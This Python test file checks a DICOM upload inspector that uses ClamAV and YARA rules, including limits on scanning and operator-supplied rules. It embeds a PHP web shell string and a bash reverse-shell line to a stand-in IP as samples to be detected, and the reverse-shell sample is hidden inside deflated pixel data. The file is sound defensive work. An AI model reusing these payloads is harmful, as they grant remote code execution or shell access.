"""Rules and ClamAV read along: what they find counts, and what they could not scan is said."""

from collections.abc import Iterator
from io import BytesIO
from pathlib import Path

import pytest

from leadglass.dicom.uids import DEFLATED
from leadglass.errors import NotAvailable, UsageError
from leadglass.inspection.clamav import Clamd
from leadglass.inspection.engines import Engines
from leadglass.inspection.files import FileInspector, FileReport
from leadglass.inspection.reasons import Reason
from leadglass.inspection.verdict import VerdictKind
from leadglass.inspection.yara import RuleSet
from tests.hostile.case import clean, encode, part10, private, whole
from tests.hostile.samples import EICAR_FILE, deflated
from tests.inspection.clamd import MARKER, SIGNATURE, STREAM_LIMIT, clamd


@pytest.fixture(scope="module")
def socket() -> Iterator[Path]:
    with clamd() as path:
        yield path


def inspect(data: bytes, engine: RuleSet | Clamd) -> FileReport:
    return FileInspector(engines=Engines((engine.begin,))).inspect(BytesIO(data))


def details(report: FileReport, reason: Reason) -> list[str]:
    return [each.detail for each in report.findings if each.reason is reason]


def test_clamd_finds_and_passes(socket: Path) -> None:
    engine = Clamd(str(socket), limit=STREAM_LIMIT)
    assert engine.version().startswith("ClamAV")
    report = inspect(whole(private(b"measured " + MARKER)), engine)
    assert (report.kind, details(report, Reason.ANTIVIRUS)) == (VerdictKind.QUARANTINE, [f"{SIGNATURE}.UNOFFICIAL"])
    assert inspect(whole(), engine).kind is VerdictKind.ACCEPT


def test_what_is_beyond_the_limit_is_said_to_be_not_scanned(socket: Path) -> None:
    big = whole(private(bytes(3 * STREAM_LIMIT) + MARKER))
    report = inspect(big, Clamd(str(socket), limit=STREAM_LIMIT))
    assert not details(report, Reason.ANTIVIRUS)
    assert details(report, Reason.NOT_SCANNED) == [f"ClamAV: the last {len(big) - STREAM_LIMIT} bytes"]
    # clamd's own limit is lower than the one configured here: it answers and hangs up.
    assert details(inspect(big, Clamd(str(socket), limit=1 << 30)), Reason.NOT_SCANNED)


def test_without_clamd_nothing_passes_unscanned(tmp_path: Path) -> None:
    with pytest.raises(NotAvailable, match="ClamAV does not answer"):
        inspect(whole(), Clamd(str(tmp_path / "none")))


def test_own_rules() -> None:
    rules = RuleSet()
    report = inspect(whole(private(bytes(2_000_000) + EICAR_FILE)), rules)
    assert "content:eicar" in details(report, Reason.TEST_VIRUS)
    shell = b"<html><?php eval(base64_decode($_POST['x'])); ?>"
    assert details(inspect(whole(private(shell)), rules), Reason.RULE) == ["content:web_shell"]
    assert inspect(whole(), rules).reasons == ()


def test_a_match_across_a_block_is_found_once() -> None:
    report = inspect(whole(private(bytes(1024 * 1024 - 900) + EICAR_FILE)), RuleSet())
    assert details(report, Reason.TEST_VIRUS).count("content:eicar") == 1


def test_rules_see_what_is_deflated() -> None:
    shell = b"<?xml version='1.0'?> bash -i >& /dev/tcp/192.0.2.1/99".ljust(2_000_000)
    body = encode(clean() | {0x00104000: (b"LT", b"nothing"), 0x7FE10010: (b"OB", bytes(2_000_000) + shell)})
    report = inspect(part10(deflated(body), syntax=DEFLATED), RuleSet())
    assert details(report, Reason.RULE) == ["content:reverse_shell"]


def test_rules_of_the_operator(tmp_path: Path) -> None:
    extra = tmp_path / "ours.yar"
    extra.write_text('rule ours { strings: $a = "forbidden words" condition: $a }')
    report = inspect(whole({0x00104000: (b"LT", b"some forbidden words")}), RuleSet((extra,)))
    assert details(report, Reason.RULE) == ["ours:ours"]
    extra.write_text("rule broken {")
    with pytest.raises(UsageError, match="do not compile"):
        inspect(whole(), RuleSet((extra,)))
    with pytest.raises(UsageError, match="cannot be read"):
        inspect(whole(), RuleSet((tmp_path / "none.yar",)))
